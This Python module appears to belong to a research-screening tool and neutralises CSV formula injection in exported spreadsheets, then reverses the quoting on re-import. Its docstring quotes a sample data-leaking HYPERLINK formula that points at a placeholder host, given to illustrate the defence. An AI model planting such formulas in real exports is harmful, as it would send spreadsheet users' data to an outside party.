"""CSV output that spreadsheets cannot run: the one place every exporter writes cells through.

A cell whose text starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is taken
as a formula by Excel and LibreOffice (OWASP, "CSV Injection"): a record title such as
``=HYPERLINK("http://x/?"&A1)`` would run on the screener's machine. Such text cells are
written with a leading single quote, which both programs show as plain text; numbers are
written as numbers. :func:`restore_cell` undoes the quote when a file we wrote comes back
(``screen import``, ``dedup --import-decisions``), so a note ``- not an RCT`` round-trips.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable, Mapping, Sequence
from pathlib import Path
from typing import IO, Any

# OWASP CSV Injection: the characters that make a spreadsheet cell a formula.
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    """``value`` with a leading ``'`` if it is text a spreadsheet would run as a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return "'" + value
    return value


def restore_cell(value: Any) -> Any:
    """Undo :func:`safe_cell` on a cell read back from a CSV this registry wrote."""
    if isinstance(value, str) and value.startswith("'") and value[1:].startswith(FORMULA_START):
        return value[1:]
    return value


class SafeWriter:
    """A :func:`csv.writer` whose rows pass through :func:`safe_cell`."""

    def __init__(self, handle: IO[str], **fmt: Any) -> None:
        self._w = csv.writer(handle, **fmt)

    def writerow(self, row: Iterable[Any]) -> None:
        """Write one row, neutralising formula cells."""
        self._w.writerow([safe_cell(v) for v in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        """Write many rows, neutralising formula cells."""
        for row in rows:
            self.writerow(row)


class SafeDictWriter(csv.DictWriter):
    """A :class:`csv.DictWriter` whose values pass through :func:`safe_cell`."""

    def writerow(self, rowdict: Mapping[str, Any]) -> Any:  # type: ignore[override]
        return super().writerow({k: safe_cell(v) for k, v in rowdict.items()})

    def writerows(self, rowdicts: Iterable[Mapping[str, Any]]) -> None:  # type: ignore[override]
        for row in rowdicts:
            self.writerow(row)


def write_csv(
    path: str | Path, header: Sequence[str], rows: Iterable[Sequence[Any]], **fmt: Any
) -> int:
    """Write ``header`` and ``rows`` to ``path`` (UTF-8, safe cells); return the row count."""
    n = 0
    with open(path, "w", newline="", encoding="utf-8") as fh:
        w = SafeWriter(fh, **fmt)
        w.writerow(header)
        for row in rows:
            w.writerow(row)
            n += 1
    return n


def safe_frame(frame: Any) -> Any:
    """A copy of a pandas DataFrame whose text cells are neutralised (numbers untouched)."""
    from pandas.api import types

    out = frame.copy()
    for col in out.columns:
        if not (types.is_numeric_dtype(out[col]) or types.is_datetime64_any_dtype(out[col])):
            out[col] = out[col].map(safe_cell)
    return out
